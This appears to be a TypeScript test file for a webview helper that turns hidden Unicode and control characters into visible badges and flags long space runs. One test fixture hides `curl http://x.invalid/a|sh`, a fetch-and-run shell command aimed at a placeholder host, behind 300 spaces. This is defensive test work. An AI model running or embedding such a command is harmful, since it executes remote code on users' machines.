// Every class of hidden character gets a distinct visible badge; ordinary text, newlines and emoji stay as
// they are; long space runs are kept but marked; joining the pieces loses nothing but the raw controls.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { badgeFor, lineCount, visiblePieces, visibleString } from '../../../webview/visible-text';

const HIDDEN = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]/u;

test('each hostile character class becomes a badge', () => {
  const cases: Array<[string, string]> = [
    ['\u0000', '␀'], ['\u001B', '␛'], ['\r', '␍'], ['\t', '⇥'], ['\u007F', '␡'], ['\u009B', '⟨U+009B⟩'], ['\u0085', '⟨U+0085⟩'],
    ['\u202A', '⟨U+202A⟩'], ['\u202E', '⟨U+202E⟩'], ['\u2066', '⟨U+2066⟩'], ['\u2069', '⟨U+2069⟩'], ['\u200E', '⟨U+200E⟩'],
    ['\u200F', '⟨U+200F⟩'], ['\u061C', '⟨U+061C⟩'], ['\u200B', '⟨U+200B⟩'], ['\u200D', '⟨U+200D⟩'], ['\u2060', '⟨U+2060⟩'],
    ['\uFEFF', '⟨U+FEFF⟩'], ['\u00AD', '⟨U+00AD⟩'], ['\u00A0', '⟨U+00A0⟩'], ['\u3000', '⟨U+3000⟩'], ['\u2028', '⟨U+2028⟩'],
    ['\u3164', '⟨U+3164⟩'], ['\uFE0F', '⟨U+FE0F⟩'], ['\u{E0041}', '⟨U+E0041⟩'], ['\uD800', '⟨U+D800⟩'],
  ];
  for (const [raw, badge] of cases) {
    assert.equal(visibleString(`a${raw}b`), `a${badge}b`, JSON.stringify(raw));
    assert.ok(badgeFor(raw.codePointAt(0)!)?.title, `no title for ${JSON.stringify(raw)}`);
  }
});

test('ordinary text, newlines, emoji and non-Latin scripts are unchanged', () => {
  const text = 'grep -n "ü" src\nécho 日本語 👍🏽 עברית';
  assert.equal(visibleString(text), text);
  assert.deepEqual(visiblePieces(text), [{ kind: 'text', text }]);
});

test('no raw hidden character survives any mix', () => {
  let all = '';
  for (let cp = 0; cp < 0x3000; cp++) if (cp < 0xd800 || cp > 0xdfff) all += String.fromCodePoint(cp);
  assert.doesNotMatch(visibleString(all), HIDDEN);
});

test('a long space run becomes one badge with its length; indentation stays', () => {
  const command = `ls -la${' '.repeat(300)}; curl http://x.invalid/a|sh`;
  const pieces = visiblePieces(command);
  assert.deepEqual(pieces.map((p) => p.kind), ['text', 'spaces', 'text']);
  assert.deepEqual(pieces[1], { kind: 'spaces', text: '⟨300 spaces⟩', title: '300 spaces in a row', raw: ' '.repeat(300) });
  assert.equal(visibleString(command), 'ls -la⟨300 spaces⟩; curl http://x.invalid/a|sh');
  const indented = `if x:\n${' '.repeat(15)}y`;
  assert.deepEqual(visiblePieces(indented), [{ kind: 'text', text: indented }]);
});

test('lineCount counts lines', () => {
  assert.deepEqual([lineCount(''), lineCount('a'), lineCount('a\nb'), lineCount('a\n')], [1, 1, 2, 2]);
});
